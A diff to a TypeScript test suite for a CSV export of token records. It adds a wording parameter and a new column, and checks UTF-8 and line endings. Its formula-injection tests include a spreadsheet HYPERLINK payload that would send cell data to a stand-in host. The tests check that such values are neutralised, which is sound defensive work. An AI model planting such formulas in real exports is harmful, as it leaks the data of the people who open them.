@@ -1,13 +1,18 @@
 import fc from 'fast-check';
 import Papa from 'papaparse';
 import { describe, expect, it } from 'vitest';
-import { recordsCsv } from './csv.ts';
+import { type CsvWords, recordsCsv } from './csv.ts';
 import { anyDay, anyRecord, anyText, sampleRecord } from './testing/records.ts';
 import type { TokenRecord } from './types.ts';
 
+const words: CsvWords = {
+  accountType: (type) => (type === 'agency' ? 'Agency' : 'Brand'),
+  finding: (kind) => `<${kind}>`,
+};
+
 /** What a reader of tables makes of it: a row for each record, by the names of the columns. */
 function read(records: readonly TokenRecord[], today = '2026-08-25'): readonly Record<string, string>[] {
-  const { data, errors } = Papa.parse<Record<string, string>>(recordsCsv(records, today), {
+  const { data, errors } = Papa.parse<Record<string, string>>(recordsCsv(records, today, words), {
     header: true,
     skipEmptyLines: true,
     newline: '\r\n',
@@ -22,6 +27,7 @@ const safe = (text: string) => (/^[=+\-@\t\r\n＝＋－＠]/.test(text) ? `'${te
 
 it('has a row for each record under names of columns', () => {
   const full = sampleRecord({
+    ticked: ['share', 'vault', 'name'],
     snoozedUntil: '2026-08-24',
     rotatedOn: ['2026-05-01', '2026-06-01'],
     reasons: [
@@ -53,7 +59,8 @@ it('has a row for each record under names of columns', () => {
       State: 'due',
       'Snoozed until': '2026-08-24',
       'Rotated on': '2026-05-01 2026-06-01',
-      'Left as it is': 'scopes-write: The job uploads.; name-date: Ours, as always',
+      'Steps after Create': '2 of 4',
+      'Left as it is': '<scopes-write> “The job uploads.”; <name-date> “Ours, as always”',
     },
     {
       Name: 'Bare',
@@ -68,6 +75,7 @@ it('has a row for each record under names of columns', () => {
       State: 'no reminder',
       'Snoozed until': '',
       'Rotated on': '',
+      'Steps after Create': '0 of 4',
       'Left as it is': '',
     },
   ]);
@@ -82,12 +90,12 @@ it.each([
 });
 
 it('without records is the names of the columns', () => {
-  expect(recordsCsv([], '2026-06-01')).toMatch(/^\uFEFF"Name","Account type",.*\r\n$/);
+  expect(recordsCsv([], '2026-06-01', words)).toMatch(/^\uFEFF"Name","Account type",.*\r\n$/);
   expect(read([])).toEqual([]);
 });
 
 it('begins with the mark by which spreadsheets know UTF-8, and ends each row with CR and LF', () => {
-  const text = recordsCsv([sampleRecord({ name: 'Größe 日本' })], '2026-06-01');
+  const text = recordsCsv([sampleRecord({ name: 'Größe 日本' })], '2026-06-01', words);
   expect([...new TextEncoder().encode(text).slice(0, 3)]).toEqual([0xef, 0xbb, 0xbf]);
   expect(text.split('\r\n')).toHaveLength(3);
   expect(text.replaceAll('\r\n', '')).not.toMatch(/[\r\n]/);
@@ -104,7 +112,7 @@ describe('what a spreadsheet would take for a formula', () => {
     '\n=1',
     '=HYPERLINK("https://x.example/?"&A1,"x")',
   ])('%j is text', (name) => {
-    expect(recordsCsv([sampleRecord({ name })], '2026-06-01')).toContain(
+    expect(recordsCsv([sampleRecord({ name })], '2026-06-01', words)).toContain(
       `\r\n"'${name.replaceAll('"', '""')}",`,
     );
     const [row] = read([sampleRecord({ name, owner: name, storedAt: name, template: { id: 't', name } })]);
